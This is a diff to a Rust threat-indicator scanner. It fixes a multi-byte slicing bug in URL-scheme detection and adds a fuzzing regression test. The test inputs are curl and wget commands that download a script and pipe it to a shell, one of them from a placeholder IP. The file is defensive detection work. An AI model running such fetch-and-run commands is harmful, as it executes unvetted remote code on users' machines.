@@ -1131,9 +1131,12 @@ impl IndicatorSet {
         let mut rest = span;
         while let Some(p) = rest.find("://") {
             let before = &rest[..p];
+            // Past the last character that cannot be in a scheme (which may be multi-byte).
             let scheme_start = before
-                .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
-                .map_or(0, |q| q + 1);
+                .char_indices()
+                .rev()
+                .find(|&(_, c)| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
+                .map_or(0, |(q, c)| q + c.len_utf8());
             let scheme = before[scheme_start..].to_ascii_lowercase();
             let after = &rest[p + 3..];
             let url_end = after
@@ -2192,6 +2195,20 @@ mod tests {
             r#"{"servers":[{"url":"p:1","user":"a","pass":"b"}]}"#,
         ] {
             assert!(fam(t, Family::MinerConfig).is_empty(), "{t}");
+        }
+    }
+
+    /// Found by fuzzing: a multi-byte character right before `://` in a download piped to a
+    /// shell (the scheme scan sliced inside it).
+    #[test]
+    fn multibyte_before_a_scheme() {
+        let s = set();
+        for t in [
+            "curl -s \u{FFFD}http://203.0.113.9/i.sh | sh",
+            "curl -s é://x | sh",
+            "wget -qO- ✓https://astral.sh/uv/install.sh | sh",
+        ] {
+            let _ = s.scan_text(t);
         }
     }
 
